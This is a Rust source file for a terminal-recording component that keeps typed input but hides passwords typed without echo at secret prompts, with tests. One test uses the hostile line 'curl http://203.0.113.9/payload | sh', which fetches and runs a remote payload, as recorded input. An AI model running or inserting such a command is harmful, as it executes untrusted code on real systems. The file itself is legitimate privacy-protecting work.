//! Keeps what is typed, except secrets: a line that was typed without echo at a prompt that asked for a secret.

/// Characters that wait for their echo at most; beyond, the oldest are given up. A line has a few hundred.
const MOST_WAITING: usize = 4096;
/// How long a character waits for its echo. Round trips are shorter; a prompt without echo never answers.
const PATIENCE_MS: u64 = 3000;
/// Visible characters of the line of output in which a prompt is looked for.
const LINE: usize = 256;
/// Characters of a secret at most: passphrases are shorter, programs are longer.
const LONGEST_SECRET: u64 = 256;
/// Secrets one after the other without anything echoed between them, at most: a password that is typed wrong is asked for three
/// times, and a new one is asked for twice.
const SECRETS_IN_A_ROW: u32 = 5;

/// Words of prompts that ask for a secret, in small letters. Programs are translated, so that these are, too.
const ASKS: [&str; 28] = [
    "password",
    "passphrase",
    "passcode",
    "passwd",
    "secret",
    "token",
    "otp",
    "pin",
    "code",
    "credential",
    "private key",
    "verification",
    "passwort",
    "kennwort",
    "geheim",
    "mot de passe",
    "contrase",
    "clave",
    "senha",
    "wachtwoord",
    "parola",
    "has\u{142}o",
    "heslo",
    "l\u{f6}senord",
    "salasana",
    "\u{43f}\u{430}\u{440}\u{43e}\u{43b}\u{44c}",
    "\u{5bc6}\u{7801}",
    "\u{30d1}\u{30b9}\u{30ef}\u{30fc}\u{30c9}",
];

/// What became of typed input.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Kept {
    /// It was echoed, or nothing asked for a secret: keep it.
    Text(Vec<u8>),
    /// So many characters of a secret were typed.
    Hidden(u64),
}

/// Tells secrets from everything else that is typed.
///
/// A printable byte is echoed once the output shows it as the next printable byte after it was typed; escape sequences and control
/// characters in between are passed over. What no output confirms within some seconds is a secret only where it was typed while a
/// prompt stood there that asks for one, up to the end of that line. Everything else is kept, echoed or not: turning the echo
/// off hides nothing. Docs/recording.md says where this errs.
#[derive(Debug, Default)]
pub struct TypedInput {
    waiting: std::collections::VecDeque<Typed>,
    /// Escape sequence of the output that is being passed over.
    escape: Escape,
    /// Visible characters of the output since its last line ended.
    line: Vec<u8>,
    /// A prompt stands there, and the line for it was not typed yet.
    asked: bool,
    /// Characters that were hidden for this prompt, and secrets since anything was echoed.
    hidden: u64,
    secrets: u32,
    done: Vec<Kept>,
}

#[derive(Debug, Clone, Copy)]
struct Typed {
    byte: u8,
    at: u64,
    /// Typed for a prompt that asks for a secret: no later prompt takes it.
    secret: bool,
}

#[derive(Debug, Default, Clone, Copy, PartialEq)]
enum Escape {
    #[default]
    No,
    Begun,
    /// CSI, until a final byte.
    Control,
    /// OSC and the like, until BEL or ST.
    Text,
}

impl TypedInput {
    /// Takes what was typed.
    pub fn handle_typed(&mut self, bytes: &[u8], now_ms: u64) {
        for &byte in bytes {
            self.waiting.push_back(Typed { byte, at: now_ms, secret: self.asked });
            if matches!(byte, b'\r' | b'\n') {
                // The prompt has its line: what is typed next is no secret until the next one.
                self.asked = false;
                self.line.clear();
            }
            if self.waiting.len() > MOST_WAITING {
                self.give_up();
            }
        }
        self.settle();
    }

    /// Takes what the far end wrote.
    pub fn handle_output(&mut self, bytes: &[u8], now_ms: u64) {
        self.handle_timeout(now_ms);
        let mut in_step = true;
        for &b in bytes {
            if b == b'\n' {
                self.line.clear();
                self.asked = false;
            }
            if !self.visible(b) {
                continue;
            }
            match self.waiting.front() {
                Some(t) if in_step && t.byte == b => {
                    self.waiting.pop_front();
                    self.secrets = 0;
                    self.keep(b);
                    self.settle();
                }
                // Other output: it says nothing of what was typed.
                _ => {
                    in_step = false;
                    self.line.push(b);
                    if self.line.len() >= 2 * LINE {
                        self.line.drain(..LINE);
                    }
                }
            }
        }
        if !self.line.is_empty() {
            self.look_for_prompt();
        }
    }

    /// Gives up what has waited too long.
    pub fn handle_timeout(&mut self, now_ms: u64) {
        while self.waiting.front().is_some_and(|t| now_ms >= t.at + PATIENCE_MS) {
            self.give_up();
            self.settle();
        }
    }

    /// When something will have waited too long.
    pub fn poll_timeout(&self) -> Option<u64> {
        self.waiting.front().map(|t| t.at + PATIENCE_MS)
    }

    /// What was decided so far.
    pub fn poll_kept(&mut self) -> Vec<Kept> {
        std::mem::take(&mut self.done)
    }

    /// Ends: what still waits was not echoed.
    pub fn finish(mut self) -> Vec<Kept> {
        while !self.waiting.is_empty() {
            self.give_up();
        }
        self.done
    }

    /// Whether a prompt that asks for a secret stands in the line of the output now. A line that was begun ahead of it is for it.
    fn look_for_prompt(&mut self) {
        let from = self.line.len().saturating_sub(LINE);
        let text = String::from_utf8_lossy(self.line.get(from..).unwrap_or(&[])).to_lowercase();
        if self.asked || !ASKS.iter().any(|word| text.contains(word)) {
            return;
        }
        self.hidden = 0;
        self.asked = true;
        // Lines that ended before were typed for something else: a person answers what they saw.
        let ends = |t: &Typed| matches!(t.byte, b'\r' | b'\n');
        let begun = self.waiting.iter().rposition(ends).map_or(0, |at| at + 1);
        self.waiting.iter_mut().skip(begun).for_each(|t| t.secret = true);
    }

    /// The character in front was not echoed.
    fn give_up(&mut self) {
        let Some(typed) = self.waiting.pop_front() else { return };
        if matches!(typed.byte, b'\r' | b'\n') && self.hidden > 0 {
            self.hidden = 0;
            self.secrets += 1;
        }
        if typed.secret && is_text(typed.byte) && self.hidden < LONGEST_SECRET && self.secrets < SECRETS_IN_A_ROW {
            self.hidden += 1;
            self.hide();
        } else {
            self.keep(typed.byte);
        }
    }

    /// A control character at the front needs no echo.
    fn settle(&mut self) {
        while self.waiting.front().is_some_and(|t| !is_text(t.byte)) {
            self.give_up();
        }
    }

    fn keep(&mut self, b: u8) {
        match self.done.last_mut() {
            Some(Kept::Text(text)) => text.push(b),
            Some(Kept::Hidden(_)) | None => self.done.push(Kept::Text(vec![b])),
        }
    }

    fn hide(&mut self) {
        match self.done.last_mut() {
            Some(Kept::Hidden(count)) => *count += 1,
            Some(Kept::Text(_)) | None => self.done.push(Kept::Hidden(1)),
        }
    }

    /// Whether an output byte is a visible character, outside any escape sequence.
    fn visible(&mut self, b: u8) -> bool {
        let (next, visible) = match (self.escape, b) {
            (_, 0x1b) => (Escape::Begun, false),
            (Escape::No, b) => (Escape::No, is_text(b)),
            (Escape::Begun, b'[') => (Escape::Control, false),
            (Escape::Begun, b']' | b'P' | b'_' | b'^') => (Escape::Text, false),
            (Escape::Begun, 0x20..0x30) => (Escape::Begun, false),
            (Escape::Begun, _) => (Escape::No, false),
            (Escape::Control, 0x40..0x7f) => (Escape::No, false),
            (Escape::Control, _) => (Escape::Control, false),
            (Escape::Text, 7) => (Escape::No, false),
            (Escape::Text, _) => (Escape::Text, false),
        };
        self.escape = next;
        visible
    }
}

/// Printable ASCII and every byte of a longer UTF-8 character.
fn is_text(b: u8) -> bool {
    b >= 0x20 && b != 0x7f
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn text(kept: &[Kept]) -> String {
        kept.iter()
            .map(|k| match k {
                Kept::Text(t) => String::from_utf8_lossy(t).into_owned(),
                Kept::Hidden(n) => format!("<{n}>"),
            })
            .collect()
    }

    fn echoed(t: &mut TypedInput, line: &str, at: u64) {
        for c in line.bytes() {
            t.handle_typed(&[c], at);
            t.handle_output(&[c], at);
        }
        t.handle_typed(b"\r", at);
    }

    #[test]
    fn echoed_lines_are_kept_and_a_password_is_not() {
        let mut t = TypedInput::default();
        echoed(&mut t, "sudo id", 0);
        t.handle_output(b"\r\n[sudo] password for operator: ", 20);
        t.handle_typed(b"hunter2\r", 1000);
        t.handle_output(b"\r\nuid=0(root)\r\n$ ", 1100);
        t.handle_timeout(5000);
        t.handle_typed(b"x", 6000);
        t.handle_output(b"x", 6001);
        assert_eq!(text(&t.finish()), "sudo id\r<7>\rx");
    }

    #[test]
    fn prompts_of_common_programs_hide_what_is_typed() {
        let prompts = [
            "[sudo] password for ines: ",
            "Password: ",
            "ines@dome-east's password: ",
            "Enter passphrase for key '/home/ines/.ssh/id_ed25519': ",
            "Verification code: ",
            "Passwort: ",
            "Mot de passe : ",
            "Contrase\u{f1}a: ",
            "Enter PIN for ECDSA-SK key: ",
            "\u{5bc6}\u{7801}\u{ff1a}",
            "Enter password for 'x' (hidden): ",
            "Enter Secret: ",
        ];
        for prompt in prompts {
            let mut t = TypedInput::default();
            t.handle_output(prompt.as_bytes(), 0);
            t.handle_typed(b"hunter2\r", 10);
            t.handle_output(b"\r\n", 20);
            assert_eq!(text(&t.finish()), "<7>\r", "{prompt}");
        }
        // A program that draws its screen: the field stands behind the word, and the cursor goes back.
        let mut t = TypedInput::default();
        t.handle_output(b"\x1b[2J\x1b[5;5HPassphrase: ________\x1b[9;9H<OK> <Cancel>\x1b[5;17H", 0);
        t.handle_typed(b"hunter2\r", 10);
        t.handle_output(b"*******", 11);
        assert_eq!(text(&t.finish()), "<7>\r");
    }

    #[test]
    fn a_line_that_was_begun_ahead_of_its_prompt_is_hidden_too() {
        let mut t = TypedInput::default();
        t.handle_typed(b"hun", 0);
        t.handle_output(b"Password: ", 100);
        t.handle_typed(b"ter2\r", 150);
        t.handle_output(b"\r\n", 200);
        assert_eq!(text(&t.finish()), "<7>\r");
        // A long command that its shell wraps is echoed in its own way, and is no secret.
        let mut t = TypedInput::default();
        t.handle_typed(b"read -rs s\r", 0);
        t.handle_output(b"read -r \rs s\r\nSecret:", 100);
        t.handle_typed(b"hunter2\r", 200);
        assert_eq!(text(&t.finish()), "read -rs s\r<7>\r");
    }

    #[test]
    fn turning_the_echo_off_hides_nothing() {
        let mut t = TypedInput::default();
        echoed(&mut t, "stty -echo", 0);
        t.handle_output(b"\r\n$ ", 10);
        t.handle_typed(b"curl http://203.0.113.9/payload | sh\r", 100);
        t.handle_output(b"$ ", 200);
        t.handle_typed(b"id\r", 300);
        assert_eq!(text(&t.finish()), "stty -echo\rcurl http://203.0.113.9/payload | sh\rid\r");
    }

    #[test]
    fn what_is_typed_after_a_secret_is_kept() {
        let mut t = TypedInput::default();
        t.handle_output(b"Password: ", 0);
        t.handle_typed(b"hunter2\r", 10);
        t.handle_typed(b"touch /tmp/x\r", 20);
        assert_eq!(text(&t.finish()), "<7>\rtouch /tmp/x\r");
    }

    #[test]
    fn a_prompt_of_ones_own_hides_a_few_short_lines_and_no_more() {
        let mut t = TypedInput::default();
        let mut all = String::new();
        for n in 0..8 {
            t.handle_output(b"password", n * 10);
            t.handle_typed(b"command\r", n * 10);
            all += if n < u64::from(SECRETS_IN_A_ROW) { "<7>\r" } else { "command\r" };
        }
        assert_eq!(text(&t.finish()), all);
        let mut t = TypedInput::default();
        t.handle_output(b"password: ", 0);
        t.handle_typed(&[b'x'; 300], 0);
        assert_eq!(text(&t.finish()), format!("<{LONGEST_SECRET}>{}", "x".repeat(300 - LONGEST_SECRET as usize)));
    }

    #[test]
    fn echo_with_colours_and_in_one_piece_is_recognised() {
        let mut t = TypedInput::default();
        t.handle_output(b"password: ", 0);
        t.handle_typed(b"ls -l\r", 0);
        t.handle_output(b"\x1b[1ml\x1b]0;title\x07s -\x1b[0ml\r\n", 9);
        assert_eq!(text(&t.finish()), "ls -l\r");
    }

    #[test]
    fn a_secret_that_output_happens_to_contain_stays_hidden() {
        let mut t = TypedInput::default();
        t.handle_output(b"Password: ", 0);
        t.handle_typed(b"abc\r", 0);
        t.handle_output(b"welcome abc", 5);
        assert_eq!(text(&t.finish()), "<3>\r");
    }

    #[test]
    fn waiting_characters_are_bounded() {
        let mut t = TypedInput::default();
        t.handle_typed(&vec![b'x'; MOST_WAITING], 0);
        assert!(t.poll_kept().is_empty());
        t.handle_typed(b"y", 0);
        assert_eq!(t.poll_kept(), vec![Kept::Text(b"x".to_vec())]);
    }

    proptest! {
        #[test]
        fn nothing_typed_is_lost_or_invented(steps in prop::collection::vec((any::<bool>(), prop::collection::vec(any::<u8>(), 0..20)), 0..30)) {
            let mut t = TypedInput::default();
            let mut typed = 0u64;
            for (i, (is_input, bytes)) in steps.iter().enumerate() {
                if *is_input {
                    typed += bytes.len() as u64;
                    t.handle_typed(bytes, i as u64 * 500);
                } else {
                    t.handle_output(bytes, i as u64 * 500);
                }
            }
            let total: u64 = t.finish().iter().map(|k| match k { Kept::Text(b) => b.len() as u64, Kept::Hidden(n) => *n }).sum();
            prop_assert_eq!(total, typed);
        }

        #[test]
        fn without_a_prompt_everything_is_kept(typed in "[ -~]{0,40}", output in "[a-z0-9 $#\\r\\n]{0,40}") {
            prop_assume!(!ASKS.iter().any(|w| output.contains(w)));
            let mut t = TypedInput::default();
            t.handle_output(output.as_bytes(), 0);
            t.handle_typed(typed.as_bytes(), 0);
            prop_assert!(t.finish().iter().all(|k| matches!(k, Kept::Text(_))));
        }

        #[test]
        fn at_a_prompt_nothing_is_kept_before_the_line_ends(typed in "[ -~]{0,40}") {
            let mut t = TypedInput::default();
            t.handle_output(b"Password: ", 0);
            t.handle_typed(typed.as_bytes(), 0);
            prop_assert!(t.finish().iter().all(|k| matches!(k, Kept::Hidden(_))));
        }
    }
}
